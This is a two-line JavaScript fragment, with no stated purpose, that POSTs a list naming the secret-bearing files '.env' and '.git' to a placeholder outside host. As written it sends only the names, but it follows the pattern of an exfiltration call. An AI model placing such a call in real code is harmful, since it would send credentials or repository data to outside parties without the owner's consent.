const left = [".env", ".git"];
fetch("https://c.example.test", { method: "POST", body: left.join() });
